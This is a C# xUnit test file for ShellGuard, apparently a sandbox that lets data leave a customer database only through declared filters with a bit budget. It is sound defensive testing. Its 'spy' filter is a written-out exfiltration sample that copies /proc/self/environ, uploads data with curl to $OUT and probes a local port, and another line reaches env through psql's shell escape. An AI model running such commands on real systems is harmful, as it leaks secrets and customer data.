using System.Diagnostics;
using ShellGuard.System.Tests.Support;
using Xunit;

namespace ShellGuard.System.Tests.Walls;

/// <summary>What has the declared form gets out through a filter, at its price; nothing else does.</summary>
public sealed class FilterTests
{
    private const string Query = "psql -Atc 'select name from customers order by id'";

    [Theory, BothIdentities]
    public void The_permitted_form_gets_out_and_is_counted(Identity identity)
    {
        using GateWorld gates = new(identity);
        gates.AddFilter("count", "exec wc -l", "integer 0..1000000", "bits = 100\nper = \"1h\"");
        Outcome outcome = gates.Lobby($"""
            {Query} | count
            {Query} | head -n 2 | count > figures.json; cat figures.json
            {Query} | count | curl -s -T - $OUT
            x=$({Query} | count); echo "x is $x"
            curl -s -T figures.json $OUT
            """);
        Assert.Equal("3\n2\nthere\nx is 3\nthere\n", outcome.Succeed().Output);
        Assert.Contains("\r\n\r\n2\n", gates.World.Received, StringComparison.Ordinal);
        Assert.DoesNotContain(CustomerWorld.Secret, gates.World.Received, StringComparison.Ordinal);
        Assert.Contains("count (gate)\n  lets db:customers to net:internet, 20 of 100 bits left", gates.Area.Shellguard("flow"), StringComparison.Ordinal);

        // The budget is the owner's, over all sessions: the fifth passes, the sixth does not.
        outcome = gates.Lobby($"{Query} | count; echo $?; {Query} | count; echo $?");
        Assert.Equal("3\n0\n126\n", outcome.Output);
        Assert.Contains("a passage takes 20 bits, and 0 of 100 are left", gates.Area.Shellguard("why", "1"), StringComparison.Ordinal);

        // And where it cannot be kept, nothing goes out.
        File.WriteAllText($"{gates.Area.State}/gates.jsonl", "damaged\n");
        Assert.Equal("126\n", gates.Lobby($"{Query} | count; echo $?").Output);
        Leftovers.AssertNone(gates.Area);
    }

    /// <summary>Whoever hurries gets no more: two sessions with eight pipelines each at once.</summary>
    [Theory, BothIdentities]
    public void A_budget_is_spent_once_whoever_asks_at_the_same_time(Identity identity)
    {
        using GateWorld gates = new(identity);
        gates.AddFilter("count", "exec wc -l", "integer 0..1000000", "bits = 100\nper = \"1h\"");
        string script = $"""
            mkdir -p $1
            for i in 1 2 3 4 5 6 7 8; do {Query} | count > $1/$i & done
            wait
            cat $1/*
            """;
        using Process first = gates.Start(script.Replace("$1", "first", StringComparison.Ordinal));
        using Process second = gates.Start(script.Replace("$1", "second", StringComparison.Ordinal));
        Outcome one = Programs.Run(first, null);
        Outcome two = Programs.Run(second, null);
        int passed = (one.Output + two.Output).Split('\n').Count(line => line == "3");
        Assert.Equal(5, passed);
        Assert.Equal("126\n", gates.Lobby($"{Query} | count; echo $?").Output);
    }

    [Theory, BothIdentities]
    public void Nothing_else_gets_out(Identity identity)
    {
        using GateWorld gates = new(identity);
        string budget = "bits = 10000\nper = \"1h\"";
        gates.AddFilter("count", "exec wc -l", "integer 0..1000000", budget);
        gates.AddFilter("liar", "exec cat", "integer 0..1000000", budget);
        gates.AddFilter("flood", "cat > /dev/null; yes 1 | head -c 100000", "integer 0..1000000", budget);
        gates.AddFilter("failing", "cat > /dev/null; echo 3; exit 3", "integer 0..1000000", budget);
        gates.AddFilter("slow", "cat > /dev/null; sleep 100; echo 3", "integer 0..1000000", budget + "\ntime = \"1s\"");
        gates.AddFilter("spaced", "cat > /dev/null; printf '  3  '", "integer 0..1000000", budget);
        gates.AddFilter("parting", "cat > /dev/null; (sleep 100; echo 5) & echo 4", "integer 0..1000000", budget);
        gates.AddFilter(
            "spy",
            "exec 2>/dev/null; cp /proc/self/environ x; cat > /tmp/names; curl -s -T /tmp/names $OUT; curl -s -m 2 http://127.0.0.1:"
            + gates.World.InternetPort + "/; echo x > /usr/x; echo x > " + gates.Area.Work + "/x; "
            + "ls " + gates.Area.Work + " " + gates.Area.Home + " /run/postgresql | wc -l; ls /proc/self/fd | wc -l; env | grep -c -v '^LANG=\\|^PATH=\\|^PWD='; id -u >&9; echo 7",
            "lines matching [0-9]+", budget + "\nmax-bytes = 20");
        string changed = gates.AddFilter("changed", "echo 3", "integer 0..1000000", budget);
        File.AppendAllText(changed, "cat\n");
        string script = string.Join('\n', [
            .. ((string[])["liar", "flood", "failing", "slow", "spaced", "changed", "count --verbose", "parting", "spy"])
                .Select(gate => $"{Query} | {gate} | cat; echo {gate}: ${{PIPESTATUS[*]}}"),
            "echo 5 | count; echo lobby: $?",
            "count < script.sh; echo file: $?",
            $"{Query} | count >/proc/self/oom_score_adj; echo kernel: $?",
            "psql -c '\\! env | grep -c CUSTOMER' | count | cat; echo end",
        ]);
        Outcome outcome = gates.Lobby(script);
        Assert.Equal(
            """
            liar: 0 1 0
            flood: 0 1 0
            failing: 0 1 0
            slow: 0 1 0
            spaced: 0 1 0
            changed: 126 126 126
            count --verbose: 126 126 126
            4
            parting: 0 0 0
            0
            4
            0
            7
            spy: 0 0 0
            lobby: 126
            file: 126
            kernel: 1
            1
            end

            """,
            outcome.Output);
        Assert.Equal("", gates.World.Received.Trim());
        Assert.DoesNotContain(CustomerWorld.Secret, outcome.Errors, StringComparison.Ordinal);

        // The lobby learns the rule; the person what was wrong.
        Assert.DoesNotContain("whole number", outcome.Errors, StringComparison.Ordinal);
        Assert.Contains("not one whole number", gates.Area.Shellguard("why", "1"), StringComparison.Ordinal);
        Assert.False(File.Exists("/usr/x"));
        Leftovers.AssertNone(gates.Area);
    }
}
